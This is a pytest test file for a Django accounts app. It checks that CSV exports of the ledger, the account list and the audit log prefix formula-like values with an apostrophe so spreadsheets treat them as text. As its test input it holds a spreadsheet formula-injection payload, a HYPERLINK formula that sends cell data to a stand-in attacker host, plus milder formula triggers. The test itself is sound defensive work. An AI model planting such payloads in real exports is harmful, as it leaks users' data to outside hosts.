"""Every accounts CSV export goes through bearsms_portal.csvfile: names and reasons that look
like formulas reach the spreadsheet as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accounts import services
from accounts.models import AuditEntry

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def sandbox(sandbox_documented):
    return sandbox_documented


def _rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_accounts_audit_and_ledger_exports_neutralise_formulas(world, client):
    services.credit_add(actor=world.operator, account=world.sub_a, amount=1, reason=EVIL)
    services.account_pref(actor=world.operator, account=world.sub_a, name="@SUM(1)")
    AuditEntry.objects.create(
        action="accountban", target_username="resa-sub", outcome="failure", message="-2+3"
    )
    client.force_login(world.operator)

    ledger = _rows(client.get(reverse("accounts:ledger_export")))
    assert [row[4] for row in ledger[1:] if row[4].endswith("A1)")] == ["'" + EVIL]
    accounts = {row[0]: row for row in _rows(client.get(reverse("accounts:list_export")))}
    assert accounts["resa-sub"][3] == "'@SUM(1)"
    audit = _rows(client.get(reverse("accounts:audit_export")))
    assert "'-2+3" in [row[6] for row in audit]
    per_account = _rows(
        client.get(reverse("accounts:account_ledger_export", kwargs={"pk": world.sub_a.pk}))
    )
    assert per_account[1][4] == "'" + EVIL
